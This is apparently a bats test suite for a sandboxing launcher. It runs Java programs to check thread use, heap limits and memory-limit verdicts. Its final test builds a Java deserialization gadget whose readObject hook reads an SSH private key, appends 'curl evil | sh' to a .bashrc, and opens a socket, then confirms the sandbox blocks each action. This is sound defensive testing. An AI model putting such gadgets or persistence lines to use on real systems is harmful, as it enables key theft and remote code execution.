# java: compiles and runs a program of threads, packages and tests; the heap ends where the limit is, with Java's own error.
# bats file_tags=large

bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages default-jdk-headless python3
}

setup() {
	residue_before
}

teardown() {
	residue_after
}

# Sums in threads, with garbage to collect: more than the heap holds at any time.
project() {
	mkdir -p src/report
	cat >src/report/Tally.java <<'END'
package report;

import java.util.concurrent.*;
import java.util.stream.*;

public final class Tally {
    public static long sum(int threads) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(threads);
        var parts = IntStream.range(0, 64).mapToObj(n -> pool.submit(() -> {
            long sum = 0;
            for (int i = 0; i < 500; i++) {
                byte[] garbage = new byte[1 << 17];
                garbage[i] = 1;
                sum += garbage[i];
            }
            return sum;
        })).collect(Collectors.toList());
        long sum = 0;
        for (Future<Long> part : parts) sum += part.get();
        pool.shutdown();
        return sum;
    }
}
END
	cat >src/report/Main.java <<'END'
package report;

import java.net.*;
import java.nio.file.*;
import java.util.*;
import java.util.regex.*;
import java.util.stream.*;
import java.lang.management.*;

public class Main {
    record Row(String town, int amount) {}

    public static void main(String[] args) throws Exception {
        var rows = Files.lines(Path.of("sales.csv")).map(line -> line.split(",")).map(f -> new Row(f[0], Integer.parseInt(f[1])));
        var totals = rows.collect(Collectors.groupingBy(Row::town, TreeMap::new, Collectors.summingInt(Row::amount)));
        Files.writeString(Path.of("totals.txt"), totals.toString());
        System.out.println("sum " + Tally.sum(8));
        long collections = 0;
        for (var gc : ManagementFactory.getGarbageCollectorMXBeans()) collections += gc.getCollectionCount();
        System.out.println("collected " + (collections > 0));
        System.out.println("processors " + Runtime.getRuntime().availableProcessors());
        System.out.println("heap " + (Runtime.getRuntime().maxMemory() >> 20));
        try (var server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
             var client = new Socket(server.getInetAddress(), server.getLocalPort());
             var answer = server.accept()) {
            answer.getOutputStream().write(42);
            System.out.println("answer " + client.getInputStream().read());
        }
        var child = new ProcessBuilder("sort", "-r", "sales.csv").start();
        System.out.println("child " + new String(child.getInputStream().readAllBytes()).lines().findFirst().get());
    }
}
END
	for i in {1..300}; do echo "town$((i % 3)),$i"; done >sales.csv
}

builds() {
	project
	# shellcheck disable=SC2016 # for the shell inside
	run launch -- sh -ec 'javac -d out $(find src -name "*.java"); jar --create --file app.jar --main-class report.Main -C out .
		java -jar app.jar'
	assert_status 0
	assert_line "sum 32000"
	assert_line "collected true"
	assert_line "processors $(nproc)"
	assert_line "answer 42"
	assert_line "child town2,98"
	[ "$(cat totals.txt)" = "{town0=15150, town1=14950, town2=15050}" ]
	[ "$(stat -c %u app.jar)" = "$(stat -c %u .)" ]
	# 60 percent of 2G, less what the collector keeps aside.
	[[ $output =~ heap\ ([0-9]+) ]]
	[ "${BASH_REMATCH[1]}" -gt 1000 ]
	[ "${BASH_REMATCH[1]}" -le 1230 ]
}

@test "java compiles, packs and runs a program of threads within its heap" {
	each_launcher builds
}

# The virtual machine's own error, with a trace, whatever the collector; not a killed process.
runs_out() {
	local collector

	cat >Hog.java <<'END'
import java.util.*;
public class Hog {
    public static void main(String[] args) {
        List<byte[]> all = new ArrayList<>();
        while (all.size() < 600) all.add(new byte[1 << 20]);
        System.out.println("enough");
    }
}
END
	as_launcher javac Hog.java
	for collector in Serial Parallel G1; do
		run launch -D memory=512M -- java "-XX:+Use${collector}GC" Hog
		assert_status 1
		assert_output 'java.lang.OutOfMemoryError: Java heap space'
		assert_output 'Hog.main'
	done
	run launch -D memory=2G -- java Hog
	assert_line enough
	[ "$LAUNCHER" = root ] || return 0
	# Memory past the heap is the cgroup's matter.
	cat >Direct.java <<'END'
public class Direct {
    public static void main(String[] args) {
        var all = new java.util.ArrayList<java.nio.ByteBuffer>();
        while (all.size() < 600) { var b = java.nio.ByteBuffer.allocateDirect(1 << 20); for (int i = 0; i < 1 << 20; i += 4096) b.put(i, (byte) 1); all.add(b); }
        System.out.println("enough");
    }
}
END
	as_launcher javac Direct.java
	# shellcheck disable=SC2034 # for refuses
	local LAUNCH_OPTIONS=(-D memory=512M --status-file "$TMP/verdict")
	refuses java -XX:MaxDirectMemorySize=1G Direct
	assert_status 137
	grep -q '"verdict": *"memory-limit"' "$TMP/verdict"
}

@test "java that takes too much memory ends with its own error" {
	each_launcher runs_out
}

# An object that is read from a file calls what its class says.
refuses_objects() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh"
	echo key >"$theirs/.ssh/id_ed25519"
	cat >Evil.java <<'END'
import java.io.*;
import java.net.*;
import java.nio.file.*;
public class Evil implements Serializable {
    final String what, where;
    Evil(String what, String where) { this.what = what; this.where = where; }
    private void readObject(ObjectInputStream in) throws Exception {
        in.defaultReadObject();
        if (what.equals("read")) Files.readString(Path.of(where));
        if (what.equals("write")) Files.writeString(Path.of(where), "curl evil | sh", StandardOpenOption.CREATE, StandardOpenOption.APPEND);
        if (what.equals("call")) new Socket("127.0.0.1", Integer.parseInt(where)).close();
    }
    public static void main(String[] args) throws Exception {
        if (args.length == 1) {
            new ObjectInputStream(new FileInputStream(args[0])).readObject();
            return;
        }
        new ObjectOutputStream(new FileOutputStream("evil.ser")).writeObject(new Evil(args[0], args[1]));
    }
}
END
	as_launcher javac Evil.java
	as_launcher java Evil read "$theirs/.ssh/id_ed25519"
	refuses java Evil evil.ser
	assert_output NoSuchFileException
	as_launcher java Evil write "$theirs/.bashrc"
	refuses java Evil evil.ser
	assert_output NoSuchFileException
	_listen
	as_launcher java Evil call "$PORT"
	refuses java Evil evil.ser
	assert_output 'Connection refused'
	kill "$LISTENER"
	rm "$TMP/port"
}

refusals() {
	refuses_objects
	refuses_secret
	refuses_processes
	refuses_namespaces
	refuses_setuid
}

@test "java lets a prepared object read no key, write no start file, call nobody" {
	each_launcher refusals
}
